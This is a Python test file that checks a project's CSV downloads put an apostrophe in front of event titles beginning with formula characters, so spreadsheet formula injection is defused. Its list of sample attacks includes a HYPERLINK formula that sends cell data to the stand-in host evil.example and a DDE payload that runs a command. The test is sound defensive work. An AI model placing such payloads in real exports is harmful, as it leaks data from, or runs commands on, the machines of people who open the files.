"""Spreadsheet formula injection (issue 15 §3): a title that starts with =, +, -, @, a tab or
a CR reaches the CSV downloads (the /downloads tables and the canned queries' CSV) with a
leading apostrophe, so a spreadsheet shows it instead of running it; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from .conftest import TEST_BASE_IRI

RID = "smolensk-belarus-2020-h1"
EVENT = f"{TEST_BASE_IRI}id/event/{RID}/7"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.fixture(params=ATTACKS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def poisoned(request, writable_store: Path):
    from coopgraph.store import Store

    title = request.param.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    with Store(writable_store) as store:
        store.update(
            f"PREFIX schema: <http://schema.org/> DELETE {{ GRAPH ?g {{ <{EVENT}> schema:name ?t }} }} "
            f'INSERT {{ GRAPH ?g {{ <{EVENT}> schema:name "{title}"@ru }} }} '
            f"WHERE {{ GRAPH ?g {{ <{EVENT}> schema:name ?t }} }}"
        )
    from coopgraph.server.app import create_app

    app = create_app({"store": str(writable_store), "base_iri": TEST_BASE_IRI})
    return request.param, app.test_client()


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_the_events_table_download_defuses_formulas_and_keeps_numbers(poisoned):
    attack, client = poisoned
    response = client.get("/downloads/events.csv")
    assert response.status_code == 200
    table = rows(response.data)
    [row7] = [r for r in table if r["event"] == EVENT]
    assert row7["title"] == "'" + attack
    assert row7["row"] == "7" and all(not r["row"].startswith("'") for r in table)
    counts = [r["participants"] for r in table if r["participants"]]
    assert counts and all(c.isdigit() for c in counts)  # integer columns untouched


def test_the_canned_query_csv_defuses_formulas(poisoned):
    attack, client = poisoned
    response = client.get("/queries/events.csv")
    assert response.status_code == 200
    titles = {r["title"] for r in rows(response.data)}
    assert "'" + attack in titles and attack not in titles
    assert all(not r["row"].startswith("'") for r in rows(response.data))
